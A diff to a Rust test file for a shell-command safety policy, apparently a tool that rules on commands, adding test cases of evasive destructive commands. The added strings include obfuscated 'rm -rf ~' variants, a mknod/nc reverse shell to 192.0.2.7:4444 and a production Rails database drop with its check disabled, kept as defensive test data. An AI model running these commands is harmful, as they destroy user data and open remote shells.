@@ -3,13 +3,31 @@
 mod support;
 
 use gatehouse_policy::Verdict;
-use support::{Labelled, afresh, analyse, apart, blind, codes, labelled, unseen, wide};
+use support::{Labelled, afresh, analyse, anew, apart, blind, codes, labelled, unseen, wide};
 
 /// Commands whose verdict is not that of their label, and why that is borne.
-const BORNE: &[(&str, &str)] = &[(
-    "tox -e py311",
-    "it may install what the project names, as any other of its tasks may",
-)];
+const BORNE: &[(&str, &str)] = &[
+    (
+        "tox -e py311",
+        "it may install what the project names, as any other of its tasks may",
+    ),
+    (
+        "env X='rm -rf ~' sh -c 'eval $X'",
+        "what env sets is not handed on to the shell that it starts; it asks",
+    ),
+    (
+        "${SHELL:+rm} -rf ~",
+        "whether a variable of the machine is set is not known; it asks",
+    ),
+    (
+        "mknod p p; sh <p | nc 192.0.2.7 4444 >p",
+        "a pipe that mknod makes is not followed as that of mkfifo is; it asks",
+    ),
+    (
+        "RAILS_ENV=production rails db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
+        "what a task does with a variable is the project's own; it asks",
+    ),
+];
 
 #[test]
 fn labelled_commands_get_their_verdict() {
@@ -42,8 +60,22 @@ fn commands_that_were_labelled_apart_from_all_others_get_their_verdicts() {
 }
 
 #[test]
+fn commands_that_were_labelled_anew_get_their_verdicts() {
+    check(&anew());
+}
+
+#[test]
 fn a_difference_that_is_borne_is_one() {
-    let all = [labelled(), unseen(), wide(), afresh(), blind(), apart()].concat();
+    let all = [
+        labelled(),
+        unseen(),
+        wide(),
+        afresh(),
+        blind(),
+        apart(),
+        anew(),
+    ]
+    .concat();
     for (command, why) in BORNE {
         let line = all.iter().find(|line| line.command == *command);
         let line = line.unwrap_or_else(|| panic!("{command:?} is not labelled"));
